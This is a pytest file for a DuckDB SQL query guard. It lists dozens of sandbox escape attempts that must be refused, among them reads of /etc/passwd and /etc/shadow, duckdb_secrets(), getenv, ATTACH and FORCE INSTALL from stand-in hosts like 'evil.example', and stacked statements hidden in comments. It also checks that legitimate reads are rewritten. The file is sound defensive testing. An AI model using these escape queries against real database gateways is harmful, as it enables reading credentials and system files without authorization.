"""The query guard: known escape attempts are refused, legitimate reads pass and are rewritten."""

from __future__ import annotations

import pytest

from quanta.access.guard import PortRef, QueryRefused, guard

#: Known ways to get around a SQL gateway; every one must be refused by the parser (lock 1).
ESCAPES: list[tuple[str, str]] = [
    ("file reader", "SELECT * FROM read_csv('/etc/passwd')"),
    ("file reader, auto", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("parquet reader", "SELECT * FROM read_parquet('/tmp/x.parquet')"),
    ("json reader", "SELECT * FROM read_json('/tmp/x.json')"),
    ("text reader as scalar", "SELECT read_text('/etc/passwd')"),
    ("text reader as table", "SELECT * FROM read_text('/etc/passwd')"),
    ("blob reader", "SELECT content FROM read_blob('/etc/shadow')"),
    ("glob", "SELECT * FROM glob('/etc/*')"),
    ("file shorthand", "SELECT * FROM '/etc/passwd'"),
    ("file shorthand csv", "FROM 'data.csv'"),
    ("parquet_scan", "SELECT * FROM parquet_scan('x.parquet')"),
    ("delta_scan", "SELECT * FROM delta_scan('/data/tables/hr/salaries')"),
    ("copy to", "COPY (SELECT * FROM operations.flights.flights) TO '/tmp/out.csv'"),
    ("copy from", "COPY t FROM '/etc/passwd'"),
    ("attach", "ATTACH '/tmp/other.duckdb' AS other"),
    ("attach postgres", "ATTACH 'dbname=x host=evil' AS pg (TYPE postgres)"),
    ("detach", "DETACH other"),
    ("install httpfs", "INSTALL httpfs"),
    ("load httpfs", "LOAD httpfs"),
    ("force install", "FORCE INSTALL httpfs FROM 'http://evil.example'"),
    ("pragma", "PRAGMA database_list"),
    ("set external access", "SET enable_external_access = true"),
    ("reset lock", "RESET lock_configuration"),
    ("set memory", "SET memory_limit = '100GB'"),
    ("multiple statements", "SELECT 1; SELECT * FROM read_csv('/etc/passwd')"),
    ("statement after comment", "SELECT 1 -- harmless\n; INSTALL httpfs"),
    ("stacked copy", "SELECT * FROM operations.flights.flights; COPY (SELECT 1) TO '/tmp/x'"),
    ("information_schema", "SELECT * FROM information_schema.tables"),
    ("information_schema, case varied", "SELECT * FROM INFORMATION_SCHEMA.Columns"),
    ("quoted information_schema", 'SELECT * FROM "information_schema"."tables"'),
    ("duckdb catalog function", "SELECT * FROM duckdb_settings()"),
    ("duckdb catalog, quoted, upper", 'SELECT * FROM "DUCKDB_TABLES"()'),
    ("duckdb_secrets", "SELECT * FROM duckdb_secrets()"),
    ("pg_catalog", "SELECT * FROM pg_catalog.pg_class"),
    ("sqlite_master", "SELECT * FROM sqlite_master"),
    ("query() dynamic SQL", "SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')"),
    ("query_table", "SELECT * FROM query_table('secrets')"),
    ("CTE hiding an unknown table", "WITH x AS (SELECT * FROM hr.payroll_raw) SELECT * FROM x"),
    ("CTE hiding a file", "WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x"),
    ("subquery hiding a file", "SELECT * FROM (SELECT * FROM read_parquet('s3://bucket/x')) s"),
    ("scalar subquery hiding a file", "SELECT (SELECT count(*) FROM read_text('/etc/hosts')) AS n"),
    ("IN subquery hiding the catalog", "SELECT 1 WHERE 1 IN (SELECT 1 FROM duckdb_tables())"),
    ("lateral hiding a file", "SELECT * FROM (VALUES (1)) v(a), LATERAL (SELECT * FROM glob('/*'))"),
    ("union with a file", "SELECT 1 UNION ALL SELECT * FROM read_csv('/etc/passwd')"),
    ("two-part table", "SELECT * FROM main.secrets"),
    ("one-part table", "SELECT * FROM secrets"),
    ("four-part table", "SELECT * FROM a.b.c.d"),
    ("reserved relation name", "SELECT * FROM __quanta_port_0"),
    ("reserved name quoted, case varied", 'SELECT * FROM "__QUANTA_RAW"'),
    ("create table", "CREATE TABLE x AS SELECT 1"),
    ("create macro", "CREATE MACRO f(x) AS x"),
    ("insert", "INSERT INTO t VALUES (1)"),
    ("select into", "SELECT 1 INTO t"),
    ("drop", "DROP TABLE t"),
    ("export database", "EXPORT DATABASE '/tmp/dump'"),
    ("describe", "DESCRIBE operations.flights.flights"),
    ("summarize", "SUMMARIZE operations.flights.flights"),
    ("call", "CALL pragma_version()"),
    ("getenv", "SELECT getenv('HOME')"),
    ("which_secret", "SELECT * FROM which_secret('s3://x', 's3')"),
    ("comment smuggling a second statement", "SELECT 1 /* ; */ ; ATTACH 'x.db'"),
    ("parameters", "SELECT * FROM operations.flights.flights WHERE carrier = $1"),
    ("table function range", "SELECT * FROM range(10)"),
    ("empty", "   "),
    ("only a comment", "-- nothing"),
    ("unparseable", "SELEC * FRM"),
    ("use", "USE other"),
    ("checkpoint", "CHECKPOINT"),
    ("vacuum", "VACUUM"),
    ("huge statement", "SELECT 1" + " + 1" * 30_000),
]


@pytest.mark.parametrize(("what", "statement"), ESCAPES, ids=[what for what, _ in ESCAPES])
def test_escape_attempt_is_refused(what: str, statement: str) -> None:
    with pytest.raises(QueryRefused) as refused:
        guard(statement)
    assert refused.value.message, f"{what}: a refusal must say why"


def test_there_are_at_least_thirty_escape_attempts() -> None:
    assert len(ESCAPES) >= 30


@pytest.mark.parametrize(
    ("statement", "expected"),
    [
        ("SELECT * FROM operations.flights.flights", [PortRef("operations", "flights", "flights")]),
        ('select * from "Operations"."FLIGHTS".Flights', [PortRef("operations", "flights", "flights")]),
        ("FROM operations.flights.flights@v3", [PortRef("operations", "flights", "flights", version=3)]),
        (
            "SELECT * FROM operations.flights.flights AS OF 'build-42'",
            [PortRef("operations", "flights", "flights", as_of="build-42")],
        ),
        (
            "WITH f AS (SELECT * FROM a.b.c) SELECT * FROM f JOIN d.e.f USING (k)",
            [PortRef("a", "b", "c"), PortRef("d", "e", "f")],
        ),
        ("SELECT 1 UNION ALL SELECT x FROM a.b.c", [PortRef("a", "b", "c")]),
        ("SELECT * FROM a.b.c -- @v3 in a comment", [PortRef("a", "b", "c")]),
        ("SELECT '@v3 AS OF' AS text FROM a.b.c", [PortRef("a", "b", "c")]),
        ("VALUES (1), (2)", []),
    ],
)
def test_legitimate_reads_pass(statement: str, expected: list[PortRef]) -> None:
    assert sorted(guard(statement).ports) == sorted(expected)


def test_rewrite_replaces_ports_by_sandbox_relations_and_keeps_qualified_columns() -> None:
    checked = guard(
        "SELECT operations.flights.flights.carrier, f2.dep_delay FROM operations.flights.flights, a.b.c f2"
    )
    relations = {ref: f"__quanta_port_{i}" for i, ref in enumerate(checked.ports)}
    sql = checked.rewrite(relations)
    assert "operations" not in sql
    assert '"__quanta_port_0" AS "flights"' in sql
    assert '"__quanta_port_1" AS f2' in sql
    assert '"flights".carrier' in sql


def test_time_travel_of_one_port_at_two_versions_gives_two_references() -> None:
    checked = guard("SELECT * FROM a.b.c@v1 old JOIN a.b.c@v2 new USING (k)")
    assert [ref.version for ref in checked.ports] == [1, 2]
    assert checked.port_names() == ("a.b.c",)


def test_columns_read_are_reported_for_the_audit() -> None:
    checked = guard("SELECT carrier, avg(dep_delay) FROM operations.flights.flights GROUP BY carrier")
    assert checked.columns_of(["carrier", "dep_delay", "tailnum"]) == ["carrier", "dep_delay"]
    assert guard("SELECT * FROM a.b.c").columns_of(["x", "y"]) == ["x", "y"]


def test_statement_hash_is_sha256_of_the_text() -> None:
    import hashlib

    text = "SELECT 1"
    assert guard(text).hash == hashlib.sha256(text.encode()).hexdigest()
